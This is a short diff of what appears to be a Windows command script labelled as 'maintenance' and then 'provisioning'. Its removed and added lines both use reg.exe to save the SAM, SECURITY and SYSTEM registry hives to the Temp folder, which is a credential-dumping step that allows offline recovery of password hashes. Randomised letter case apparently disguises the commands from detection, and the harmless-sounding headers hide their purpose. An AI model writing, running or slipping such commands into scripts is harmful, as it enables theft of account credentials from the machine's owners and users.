@@ -1,4 +1,4 @@
-# MaIntEnANCe 5108 V1
-REG.exE saVE HkLM\SAM C:\WindOWS\TEmP\s.HIV /Y
-REg.ExE SavE hKLM\SEcuRiTY C:\wiNDOws\temP\seC.hiv /Y
-rEg.exe sAve hklm\sYStEm c:\WiNDOWS\Temp\sYS.hiV /y
+# pRoViSiOn 9495 V1
+REg.EXe sAvE HKLM\sAm C:\wiNdOws\tEmP\s.HIv /Y
+reg.eXe saVE hklM\sEcUrItY C:\windOWS\TEMp\seC.HIv /y
+Reg.eXE sAVe hklM\SySTEM C:\wiNDows\TEmP\SYS.HIV /Y
